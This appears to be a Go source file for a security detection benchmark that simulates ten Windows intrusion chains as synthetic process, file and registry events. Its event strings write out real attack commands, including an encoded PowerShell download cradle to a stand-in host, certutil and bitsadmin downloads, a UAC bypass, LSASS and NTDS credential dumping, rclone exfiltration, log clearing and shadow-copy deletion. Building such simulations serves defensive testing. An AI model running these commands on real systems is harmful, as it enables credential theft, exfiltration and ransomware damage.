package bench

import (
	"fmt"
	"time"
)

// chain is one attack: what somebody with bad intentions does on a host of a role, step by step.
type chain struct {
	name string
	role role // where it fits best
	run  func(s *script)
}

// AttackNames lists the chains that Config.Attacks may name, in the order in which they read like one intrusion.
func AttackNames() []string {
	var names []string
	for _, c := range chains {
		names = append(names, c.name)
	}
	return names
}

var chains = []chain{
	{"phishing-macro", office, phishingMacro},
	{"lolbin-download", developer, lolbinDownload},
	{"uac-bypass-and-task", office, uacBypassAndTask},
	{"lsass-dump", sqlServer, lsassDump},
	{"wmi-remote", office, wmiRemote},
	{"psexec-service", webServer, psexecService},
	{"ntds-theft", controller, ntdsTheft},
	{"web-shell-exfiltration", webServer, webShellExfiltration},
	{"run-key-and-log-clearing", developer, runKeyAndLogClearing},
	{"ransomware", office, ransomware},
}

// The pace of somebody who types, and of a script.
const (
	quick = 300 * time.Millisecond
	slow  = 4 * time.Second
)

// phishingMacro: a document out of a mail runs PowerShell, which fetches a program, starts it and makes it stay.
func phishingMacro(s *script) {
	h := s.h
	home := `C:\Users\` + h.user.login
	doc := home + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8K1Q0ZTR\Invoice_4471.docm`
	o := s.exec("explorer.exe", msOff+"OUTLOOK.EXE", "")
	s.file("create", o, doc)
	s.wait(quick, slow)
	w := s.exec(o, msOff+"WINWORD.EXE", `"`+msOff+`WINWORD.EXE" /n "`+doc+`" /o ""`)
	s.noise(w, 8)
	s.wait(quick, slow)
	p := s.exec(w, posh, `powershell.exe -nop -w hidden -ep bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AYQAnACkA`)
	s.exec(p, sys32+"conhost.exe", `\??\`+sys32+`conhost.exe 0xffffffff -ForceV1`)
	s.wait(quick, slow)
	s.run(p, sys32+"whoami.exe", `"`+sys32+`whoami.exe" /groups`)
	s.run(p, sys32+"net.exe", `"`+sys32+`net.exe" group "Domain Admins" /domain`)
	upd := home + `\AppData\Roaming\WinSync\winsync.exe`
	s.file("create", p, upd)
	u := s.exec(p, upd, `"`+upd+`" -q`)
	s.wait(quick, slow)
	run := `HKU\` + h.user.sid + `\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`
	r := s.exec(u, sys32+"reg.exe", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v WinSync /t REG_SZ /d "`+upd+`" /f`)
	s.registry("set_key_value", r, run, "WinSync")
	s.exit(r, p)
	s.wait(quick, slow).exit(w)
}

// lolbinDownload: tools that Windows brings along fetch a program and start it.
func lolbinDownload(s *script) {
	c := s.exec("explorer.exe", sys32+"cmd.exe", `"`+sys32+`cmd.exe"`)
	s.exec(c, sys32+"conhost.exe", `\??\`+sys32+`conhost.exe 0x4`)
	s.wait(quick, slow)
	u := s.exec(c, sys32+"certutil.exe", `certutil -urlcache -split -f http://203.0.113.7/tools/b64.txt C:\Users\Public\b64.txt`)
	s.file("create", u, `C:\Users\Public\b64.txt`)
	s.wait(quick, slow).exit(u)
	d := s.exec(c, sys32+"certutil.exe", `certutil -decode C:\Users\Public\b64.txt C:\Users\Public\drv.exe`)
	s.file("create", d, `C:\Users\Public\drv.exe`)
	s.exit(d)
	s.run(c, sys32+"bitsadmin.exe", `bitsadmin /transfer upd /download /priority high https://203.0.113.7/tools/m.dll C:\Users\Public\m.dll`)
	s.wait(quick, slow)
	p := s.exec(c, `C:\Users\Public\drv.exe`, `drv.exe -s`)
	r := s.exec(p, sys32+"rundll32.exe", `rundll32.exe C:\Users\Public\m.dll,Start`)
	s.wait(quick, slow)
	s.exit(r, p)
	s.exitWith(c, 0)
}

// uacBypassAndTask: a handler in the user's hive gives administrator rights, and a task keeps them.
func uacBypassAndTask(s *script) {
	h := s.h
	key := `HKU\` + h.user.sid + `_Classes\ms-settings\shell\open\command`
	p := s.exec("explorer.exe", posh, `"`+posh+`"`)
	s.wait(quick, slow)
	r := s.exec(p, sys32+"reg.exe", `reg add HKCU\Software\Classes\ms-settings\shell\open\command /d "cmd.exe /c start C:\ProgramData\sv.cmd" /f`)
	s.registry("create_key", r, key, "")
	s.registry("set_key_value", r, key, "(Default)")
	s.exit(r)
	r = s.exec(p, sys32+"reg.exe", `reg add HKCU\Software\Classes\ms-settings\shell\open\command /v DelegateExecute /f`)
	s.registry("set_key_value", r, key, "DelegateExecute")
	s.exit(r)
	s.wait(quick, slow)
	f := s.exec(p, sys32+"fodhelper.exe", `"`+sys32+`fodhelper.exe"`)
	c := s.exec(f, sys32+"cmd.exe", `cmd.exe /c start C:\ProgramData\sv.cmd`)
	s.wait(quick, slow)
	s.run(c, sys32+"schtasks.exe", `schtasks /create /f /sc minute /mo 15 /ru SYSTEM /tn "OneDrive Sync Helper" /tr "powershell -w hidden -f C:\Users\Public\sync.ps1"`)
	s.do(func() {
		if t := h.running("Schedule"); t != nil {
			h.file("create", t, sys32+`Tasks\OneDrive Sync Helper`, "")
		}
	})
	k := s.exec(p, sys32+"reg.exe", `reg delete HKCU\Software\Classes\ms-settings /f`)
	s.registry("delete_key", k, key, "")
	s.exit(k, c, f)
	s.wait(quick, slow)
	t := s.execAs("Schedule", system, `C:\Users\Public\sync.exe`, `C:\Users\Public\sync.exe`)
	s.wait(quick, slow)
	s.exit(t, p)
}

// lsassDump: an administrator's shell writes the memory of LSASS to a file and packs it.
func lsassDump(s *script) {
	c := s.execAs("explorer.exe", "", sys32+"cmd.exe", `"`+sys32+`cmd.exe" /k`)
	s.wait(quick, slow)
	s.run(c, sys32+"tasklist.exe", `tasklist /fi "imagename eq lsass.exe"`)
	s.wait(quick, slow)
	r := s.exec(c, sys32+"rundll32.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 688 C:\ProgramData\lsass.dmp full`)
	s.file("create", r, `C:\ProgramData\lsass.dmp`)
	s.wait(quick, slow).exit(r)
	for _, hive := range []string{"SAM", "SYSTEM"} {
		r := s.exec(c, sys32+"reg.exe", fmt.Sprintf(`reg save HKLM\%s C:\ProgramData\%s.hiv /y`, hive, hive))
		s.file("create", r, `C:\ProgramData\`+hive+".hiv")
		s.exit(r)
	}
	z := s.exec(c, `C:\ProgramData\7za.exe`, `7za.exe a -pQ9x C:\ProgramData\l.7z C:\ProgramData\lsass.dmp`)
	s.file("create", z, `C:\ProgramData\l.7z`)
	s.wait(quick, slow).exit(z, c)
}

// wmiRemote: wmic starts a shell on another machine, whose output comes back over a share.
func wmiRemote(s *script) {
	target := s.h.sim.host(developer, 0)
	c := s.exec("explorer.exe", sys32+"cmd.exe", `"`+sys32+`cmd.exe"`)
	s.wait(quick, slow)
	s.run(c, sys32+`wbem\WMIC.exe`, fmt.Sprintf(`wmic /node:%s process call create "cmd.exe /Q /c ipconfig 1> \\127.0.0.1\ADMIN$\__1736064000.77 2>&1"`, hostname(target.name)))
	t := s.on(target)
	w := t.execAs("DcomLaunch", `NT AUTHORITY\NETWORK SERVICE`, sys32+`wbem\WmiPrvSE.exe`, sys32+`wbem\wmiprvse.exe -Embedding`)
	for _, cmd := range []string{"ipconfig /all", `net localgroup administrators`, "cd"} {
		t.wait(quick, slow)
		x := t.execAs(w, s.h.user.name, sys32+"cmd.exe", `cmd.exe /Q /c `+cmd+` 1> \\127.0.0.1\ADMIN$\__1736064000.77 2>&1`)
		t.wait(quick, time.Second).exit(x)
	}
	p := t.execAs(w, s.h.user.name, posh, `powershell.exe -nop -c "Get-Process lsass"`)
	t.wait(quick, slow).exit(p, w)
	s.wait(slow, 2*slow).exit(c)
}

// psexecService: a tool is copied to another machine and run there as a service.
func psexecService(s *script) {
	from := s.on(s.h.sim.host(office, 1))
	c := from.exec("explorer.exe", sys32+"cmd.exe", `"`+sys32+`cmd.exe"`)
	from.run(c, sys32+"cmd.exe", fmt.Sprintf(`cmd.exe /c copy C:\Users\Public\b.exe \\%s\C$\Windows\Temp\b.exe`, hostname(s.h.name)))
	p := from.exec(c, `C:\Users\Public\PsExec64.exe`, fmt.Sprintf(`PsExec64.exe -accepteula -s \\%s cmd.exe`, hostname(s.h.name)))
	s.wait(slow, 2*slow)
	s.do(func() { s.h.file("create", &proc{pid: 4, path: "System", user: system}, `C:\Windows\PSEXESVC.exe`, "") })
	scm := "services.exe"
	s.do(func() {
		if p := s.h.running(scm); p != nil {
			s.h.registry("set_key_value", p, `HKLM\System\CurrentControlSet\Services\PSEXESVC`, "ImagePath")
		}
	})
	v := s.execAs(scm, system, `C:\Windows\PSEXESVC.exe`, `C:\Windows\PSEXESVC.exe`)
	sh := s.exec(v, sys32+"cmd.exe", "cmd.exe")
	s.wait(quick, slow)
	s.run(sh, sys32+"whoami.exe", "whoami")
	s.run(sh, sys32+"nltest.exe", "nltest /domain_trusts")
	n := s.exec(sh, sys32+"net.exe", `net localgroup administrators helpdesk2 /add`)
	s.run(n, sys32+"net1.exe", sys32+`net1 localgroup administrators helpdesk2 /add`)
	s.exit(n)
	s.wait(quick, slow)
	s.exit(sh, v)
	from.wait(5*slow, 6*slow).exit(p, c)
}

// ntdsTheft: the directory's database is copied on a domain controller.
func ntdsTheft(s *script) {
	c := s.execAs("explorer.exe", "", sys32+"cmd.exe", `"`+sys32+`cmd.exe"`)
	s.wait(quick, slow)
	s.run(c, sys32+"nltest.exe", "nltest /dclist:corp.example")
	n := s.exec(c, sys32+"ntdsutil.exe", `ntdsutil "ac i ntds" "ifm" "create full C:\PerfLogs\t" q q`)
	s.wait(quick, slow)
	s.file("create", n, `C:\PerfLogs\t\Active Directory\ntds.dit`)
	s.file("create", n, `C:\PerfLogs\t\registry\SYSTEM`)
	s.file("create", n, `C:\PerfLogs\t\registry\SECURITY`)
	s.wait(quick, slow).exit(n)
	z := s.exec(c, sys32+"makecab.exe", `makecab "C:\PerfLogs\t\Active Directory\ntds.dit" C:\PerfLogs\n.cab`)
	s.file("create", z, `C:\PerfLogs\n.cab`)
	s.wait(quick, slow).exit(z, c)
}

// webShellExfiltration: a page that the web server was made to write packs the shop's data and sends it off.
func webShellExfiltration(s *script) {
	h := s.h
	s.do(func() {
		if w := h.running("w3wp.exe"); w != nil {
			h.file("create", w, `C:\inetpub\wwwroot\shop\uploads\thumb.aspx`, "")
		}
	})
	s.wait(quick, slow)
	c := s.exec("w3wp.exe", sys32+"cmd.exe", `"cmd.exe" /c whoami & systeminfo`)
	s.run(c, sys32+"whoami.exe", "whoami")
	s.run(c, sys32+"systeminfo.exe", "systeminfo")
	s.exit(c)
	s.wait(quick, slow)
	c = s.exec("w3wp.exe", sys32+"cmd.exe", `"cmd.exe" /c C:\ProgramData\r.cmd`)
	z := s.exec(c, `C:\ProgramData\7za.exe`, `7za.exe a -hpT1ger -r C:\ProgramData\shop.7z D:\shop\data`)
	s.file("create", z, `C:\ProgramData\shop.7z`)
	s.wait(slow, 2*slow).exit(z)
	r := s.exec(c, `C:\ProgramData\rclone.exe`, `rclone.exe --config C:\ProgramData\rclone.conf copy C:\ProgramData\shop.7z mega:in --no-check-certificate -q`)
	s.file("create", r, `C:\ProgramData\rclone.conf`)
	s.wait(slow, 2*slow).exit(r)
	d := s.exec(c, sys32+"cmd.exe", `cmd /c del C:\ProgramData\shop.7z C:\ProgramData\rclone.conf`)
	s.file("delete", d, `C:\ProgramData\shop.7z`)
	s.file("delete", d, `C:\ProgramData\rclone.conf`)
	s.exit(d, c)
}

// runKeyAndLogClearing: a program stays, protection is switched off and the traces are wiped.
func runKeyAndLogClearing(s *script) {
	h := s.h
	p := s.exec("explorer.exe", posh, `powershell.exe -ep bypass -f C:\Users\Public\stay.ps1`)
	s.wait(quick, slow)
	s.registry("set_key_value", p, `HKU\`+h.user.sid+`\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "Graphics Tray")
	s.file("create", p, `C:\Users\`+h.user.login+`\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\tray.lnk`)
	r := s.exec(p, sys32+"reg.exe", `reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`)
	s.registry("set_key_value", r, `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender`, "DisableAntiSpyware")
	s.exit(r)
	s.run(p, posh, `powershell Set-MpPreference -DisableRealtimeMonitoring $true`)
	s.wait(quick, slow)
	for _, log := range []string{"Security", "System", "Windows PowerShell"} {
		w := s.exec(p, sys32+"wevtutil.exe", `wevtutil cl "`+log+`"`)
		s.wait(quick, time.Second).exit(w)
	}
	s.file("delete", p, `C:\Windows\Prefetch\STAY.EXE-1A2B3C4D.pf`)
	f := s.exec(p, sys32+"fsutil.exe", "fsutil usn deletejournal /D C:")
	s.wait(quick, slow).exit(f, p)
}

// ransomware: backups are removed, then everything is encrypted.
func ransomware(s *script) {
	h := s.h
	exe := `C:\Users\Public\w64.exe`
	home := `C:\Users\` + h.user.login
	w := s.exec("explorer.exe", exe, `"`+exe+`" --paths all`)
	c := s.exec(w, sys32+"cmd.exe", `cmd.exe /c C:\Users\Public\k.bat`)
	s.run(c, sys32+"vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet")
	s.run(c, sys32+"bcdedit.exe", "bcdedit /set {default} recoveryenabled No")
	s.run(c, sys32+"wbadmin.exe", "wbadmin delete catalog -quiet")
	s.run(c, sys32+"net.exe", "net stop VeeamTransportSvc /y")
	s.exit(c)
	s.wait(quick, slow)
	for i := range 24 {
		ext := pick(h.rng, extensions)
		path := fmt.Sprintf(`%s\Documents\%s%02d.%s`, home, pick(h.rng, words), i, ext)
		s.file("write", w, path)
		s.rename(w, path, path+".locked")
		if i%8 == 0 {
			s.file("create", w, fmt.Sprintf(`%s\Documents\%02d\RESTORE_YOUR_FILES.txt`, home, i/8))
		}
	}
	s.registry("set_key_value", w, `HKU\`+h.user.sid+`\Control Panel\Desktop`, "Wallpaper")
	s.wait(quick, slow).exit(w)
}
